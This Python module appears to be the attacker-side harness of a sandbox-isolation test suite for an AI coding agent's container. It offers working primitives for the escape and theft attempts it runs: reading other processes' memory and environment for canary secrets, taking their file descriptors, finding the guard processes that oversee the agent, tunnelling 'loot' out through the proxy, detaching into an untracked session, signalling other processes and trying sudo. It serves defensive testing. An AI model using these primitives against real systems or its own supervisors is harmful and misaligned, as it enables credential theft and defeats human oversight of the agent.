"""The hijacked agent: carries attacks out inside a box, each in a process of its own, and notes what each has printed.

The functions below are what the bodies of the attacks are written with.
"""

import contextlib
import ctypes
import glob
import json
import os
import platform
import re
import signal
import socket
import subprocess
import sys
import time
import urllib.parse

SECONDS = 8  # for one attack
AT_ONCE = 6
HOME = "/home/claude"
CLAUDE = f"{HOME}/.claude"
NONCE = ""  # of this attack
OUT = ""
SYSCALLS = {
    "x86_64": dict(bpf=321, io_uring_setup=425, add_key=248, keyctl=250, perf_event_open=298, userfaultfd=323, init_module=175,
                   mount=165, pidfd_open=434, pidfd_getfd=438, ptrace=101, process_vm_readv=310, process_vm_writev=311,
                   unshare=272, setns=308, kcmp=312, ioprio_set=251, open_by_handle_at=304, kexec_load=246),
    "aarch64": dict(bpf=280, io_uring_setup=425, add_key=217, keyctl=219, perf_event_open=241, userfaultfd=282, init_module=105,
                    mount=40, pidfd_open=434, pidfd_getfd=438, ptrace=117, process_vm_readv=270, process_vm_writev=271,
                    unshare=97, setns=268, kcmp=272, ioprio_set=30, open_by_handle_at=265, kexec_load=104),
}
_libc = ctypes.CDLL(None, use_errno=True)


def call(name, *arguments):
    """A system call: its result, or minus the error."""
    # As wide as the kernel reads them.
    words = [ctypes.c_long(word) if isinstance(word, int) else word for word in arguments]
    done = _libc.syscall(ctypes.c_long(SYSCALLS[platform.machine()][name]), *words)
    return done if done >= 0 else -ctypes.get_errno()


def nonce():
    """What marks this attack: whoever sees it outside has seen this attack."""
    return NONCE


def out():
    """What the attack prints goes to this file; others beside it are its own."""
    return OUT


def won(text):
    print(f"won {text} {NONCE}", flush=True)


def hold():
    """Waits until the process was looked at from outside."""
    write(f"{OUT}.hold", str(os.getpid()))
    deadline = time.monotonic() + SECONDS - 1
    while not os.path.exists(f"{OUT}.seen") and time.monotonic() < deadline:
        time.sleep(0.01)


def write(path, text, mode=None):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as file:
        file.write(text)
    if mode:
        os.chmod(path, mode)


def shell(command, **options):
    return subprocess.run(["bash", "-c", command], capture_output=True, text=True, timeout=SECONDS, **options).stdout


def sudo(command):
    """Whatever the way to root is worth."""
    return subprocess.run(["sudo", "bash", "-c", command], capture_output=True, text=True, timeout=SECONDS).stdout


def processes():
    """All others: (id, name)."""
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            with contextlib.suppress(OSError):
                yield int(entry), open(f"/proc/{entry}/comm").read().strip()


def guards():
    """Who looks after Claude."""
    return [pid for pid, name in processes() if name.startswith("claudebox")]


def role(role):
    found = []
    for pid in guards():
        with contextlib.suppress(OSError):
            words = open(f"/proc/{pid}/cmdline").read().split("\0")
            if role in words[1:] or words[0].endswith(role):
                found.append(pid)
    return found


def serve():
    return role("serve")


def ancestors():
    """Our own run, up to PID 1."""
    pid, line = os.getpid(), []
    while pid > 1:
        line.append(pid)
        status = open(f"/proc/{pid}/status").read()
        pid = int(re.search(r"PPid:\s+(\d+)", status)[1])
    return line


def victims():
    """The CLIs of other runs."""
    own = set(ancestors())
    return [pid for pid, name in processes() if name == "claude" and pid not in own]


def workers_of_others():
    own = set(ancestors())
    return [pid for pid in role("turn") + role("worker") if pid not in own]


def environment(pid):
    with contextlib.suppress(OSError):
        return open(f"/proc/{pid}/environ", errors="replace").read().replace("\0", "\n")
    return ""


def memory(pid):
    """The secrets' shapes in what can be read of a process' memory."""
    found = set()
    with contextlib.suppress(OSError):
        file = open(f"/proc/{pid}/mem", "rb", 0)
        for line in open(f"/proc/{pid}/maps"):
            begin, end, rights = re.match(r"(\w+)-(\w+) (\S+)", line).groups()
            size = int(end, 16) - int(begin, 16)
            if rights.startswith("rw") and size <= 8 << 20:
                with contextlib.suppress(OSError, ValueError, OverflowError):
                    file.seek(int(begin, 16))
                    found |= secrets_in(file.read(size))
    return "\n".join(secret.decode() for secret in found)


def connect(address, port, data, family=socket.AF_INET, kind=socket.SOCK_STREAM, seconds=2):
    """Sends `data`; what comes back."""
    with contextlib.suppress(OSError), socket.socket(family, kind) as peer:
        peer.settimeout(seconds)
        peer.connect(address if family == socket.AF_UNIX else (address, port))
        peer.sendall(data if isinstance(data, bytes) else data.encode())
        return peer.recv(65536).decode(errors="replace")
    return ""


def proxy():
    """The way out that the run was given: an address, or None."""
    for name in ("HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy", "ALL_PROXY"):
        if os.environ.get(name):
            at = urllib.parse.urlsplit(os.environ[name])
            return at
    return None


def authority(at):
    """The header that the proxy wants, if its address names a person."""
    if not at.username:
        return ""
    import base64

    pair = base64.b64encode(f"{at.username}:{at.password or ''}".encode()).decode()
    return f"Proxy-Authorization: Basic {pair}\r\n"


def tunnel(target, payload=None, head=None, host=None):
    """Through the run's proxy to `target`, then `payload`. Without a proxy: straight to where `target` leads."""
    payload = payload or f"GET /{NONCE} HTTP/1.1\r\nHost: x\r\nX-Loot: {NONCE}\r\n\r\n"
    at = proxy()
    if at is None:
        name, _, port = target.rpartition(":")
        name = name.rpartition("@")[2].strip("[]").rstrip(".")
        with contextlib.suppress(OSError):
            for family, _, _, _, address in socket.getaddrinfo(name, int(port), type=socket.SOCK_STREAM)[:1]:
                connect(address[0], address[1], payload, family)
        return
    head = head or f"CONNECT {target} HTTP/1.1\r\nHost: {host or target}\r\n{authority(at)}\r\n"
    with contextlib.suppress(OSError), socket.create_connection((at.hostname, at.port), 3) as peer:
        peer.settimeout(3)
        peer.sendall(head.encode("latin-1"))
        print(peer.recv(4096))
        peer.sendall(payload if isinstance(payload, bytes) else payload.encode())
        print(peer.recv(4096))


def api(path, key, body="", method="POST", head=None):
    """Asks the model's API: on the run's socket if there is one, else where the CLI would ask."""
    head = head or f"{method} {path} HTTP/1.1\r\nHost: api.example\r\nx-api-key: {key}\r\nanthropic-version: 2023-06-01\r\n" \
        f"content-type: application/json\r\ncontent-length: {len(body)}\r\nconnection: close\r\n\r\n"
    with contextlib.suppress(OSError):
        if own := os.environ.get("ANTHROPIC_UNIX_SOCKET"):
            return connect(own, None, head + body, socket.AF_UNIX)
        return connect("12.0.0.10", 80, head + body)
    return ""


def leave(wash=True):
    """True in a process of its own, which has left its session, its parent and the run's mark behind."""
    import resource

    if os.fork():
        return False
    os.setsid()
    if os.fork():
        os._exit(0)
    if wash:
        with contextlib.suppress(OSError, ValueError):
            resource.setrlimit(10, (0, 0))  # RLIMIT_LOCKS: `ulimit -x 0`
        os.environ.clear()
    null = os.open("/dev/null", os.O_RDWR)
    for stream in (0, 1, 2):
        os.dup2(null, stream)
    return True


def end(pids, number):
    """Sends a signal to each."""
    for pid in pids:
        try:
            os.kill(pid, number)
        except OSError as error:
            print(pid, error)


def descriptor_of(pid, number):
    """Another process' descriptor, taken."""
    found = call("pidfd_getfd", call("pidfd_open", pid, 0), number, 0)
    if found >= 0:
        print("got", pid, number, os.readlink(f"/proc/self/fd/{found}"))
    return found


def sockets():
    """Unix sockets: all that the kernel names, and all that can be found."""
    found = set()
    for line in open("/proc/net/unix").read().splitlines()[1:]:
        words = line.split()
        if len(words) > 7:
            found.add("\0" + words[7][1:] if words[7].startswith("@") else words[7])
    for top in ("/run", "/tmp", "/var", HOME, "/workspaces"):
        for folder, _, names in os.walk(top):
            for name in names:
                path = f"{folder}/{name}"
                with contextlib.suppress(OSError):
                    if os.stat(path).st_mode & 0o170000 == 0o140000:
                        found.add(path)
    return found


def files(tops, limit=1 << 20):
    """Everything that can be read below these folders."""
    for top in tops:
        for folder, _, names in os.walk(top):
            for name in names:
                path = f"{folder}/{name}"
                with contextlib.suppress(OSError):
                    status = os.lstat(path)
                    if status.st_mode & 0o170000 == 0o100000 and status.st_size <= limit and "/out/" not in path:
                        yield path, open(path, "rb").read()


def secrets_in(data):
    """What has the shape of a box's secrets."""
    found, at = set(), data.find(b"canary-")
    while at >= 0:
        if shape := re.search(rb"(?:sk-ant-api03-)?canary-\w{24}", data[max(at - 13, 0) : at + 31]):
            found.add(shape[0])
        at = data.find(b"canary-", at + 7)
    return found


def canaries(data):
    return "\n".join(sorted(found.decode() for found in secrets_in(data)))


# --- the agent's own work -----------------------------------------------------------------------------------------------


def work(job):
    if "victim" in job:
        return lie_there(job)
    import attack

    attacks = attack.load()
    out = f"{os.getcwd()}/out"
    os.makedirs(out, exist_ok=True)
    waiting, running = list(job["attacks"].items()), {}
    while waiting or running:
        while waiting and len(running) < job.get("at_once", AT_ONCE):
            name, nonce = waiting.pop(0)
            running[carry_out(attacks[name], nonce, f"{out}/{name}")] = (name, time.monotonic() + SECONDS)
        for pid, (name, deadline) in list(running.items()):
            ended, status = os.waitpid(pid, os.WNOHANG)
            if not ended and time.monotonic() > deadline:
                with contextlib.suppress(ProcessLookupError):
                    os.killpg(pid, signal.SIGKILL)
                ended, status = os.waitpid(pid, 0)
            if ended:
                del running[pid]
                write(f"{out}/{name}.ended", str(status))
        time.sleep(0.005)


def carry_out(attack, nonce, out):
    pid = os.fork()
    if pid:
        return pid
    global NONCE, OUT
    NONCE, OUT = nonce, out
    code = 1
    try:
        os.setpgid(0, 0)
        file = os.open(out, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
        os.dup2(file, 1)
        os.dup2(file, 2)
        sys.stdout.reconfigure(line_buffering=True)
        attack.body()
        code = 0
    except BaseException as error:  # noqa: BLE001  # a refusal is what most attacks end with
        print(f"{type(error).__name__}: {error}")
    finally:
        sys.stdout.flush()
        os._exit(code)


def lie_there(job):
    """Another run, which knows a secret and ends when it is told to."""
    keeps = job["victim"]  # noqa: F841
    write(os.path.abspath("started"), "")
    while not os.path.exists("stop"):
        time.sleep(0.02)


if __name__ == "__main__":
    sys.modules["agent"] = sys.modules["__main__"]
    work(json.loads(sys.argv[1]))
